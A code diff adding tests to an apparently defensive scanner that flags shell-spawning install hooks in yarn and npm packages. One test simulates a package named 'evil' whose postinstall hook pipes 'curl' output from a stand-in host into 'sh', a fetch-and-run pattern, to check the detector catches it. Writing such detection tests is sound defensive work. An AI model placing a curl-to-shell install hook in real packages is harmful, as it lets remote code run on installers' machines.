@@ -39,6 +39,21 @@ def test_yarn_berry_through_yarn_path_runs_hooks_that_are_attributed(build: Buil
     assert (finding.ecosystem, finding.package, finding.hook) == ("yarn", "evil@1.0.0", "postinstall")
 
 
+def test_under_yarn_berry_the_hooks_first_command_is_judged_too(build: Build) -> None:
+    # `curl ... | sh` as a berry script: yarn's own shell starts curl and sh, each a boundary.
+    yarn = build.root.spawn(["node", f"{PROJECT}/.yarn/releases/yarn-4.4.1.cjs", "install"])
+    env, cwd = npm_env("evil", "1.0.0", "postinstall"), f"{PROJECT}/node_modules/evil"
+    yarn.spawn(["curl", "-fsSL", "https://get.example/x"], env=env, cwd=cwd, stdout="pipe:[8]")
+    shell = yarn.spawn(["sh"], env=env, cwd=cwd, stdin="pipe:[8]")
+    finding = only(build.judge(), "hook-shell")
+    assert finding.evidence == (shell.seq,) and finding.package == "evil@1.0.0"
+
+
+def test_npms_sh_c_wrapper_at_the_boundary_is_still_not_judged(build: Build) -> None:
+    build.hook(script="node install.js").spawn(["node", "install.js"])
+    assert found(build.judge(), "hook-shell") == []
+
+
 def test_a_script_merely_named_like_a_yarn_release_is_not_yarn(build: Build) -> None:
     tool = build.root.spawn(["node", f"{PROJECT}/scripts/yarn-helper.cjs"])
     tool.spawn(["sh", "-c", "true"], env=npm_env("evil", "1.0.0", "postinstall"))
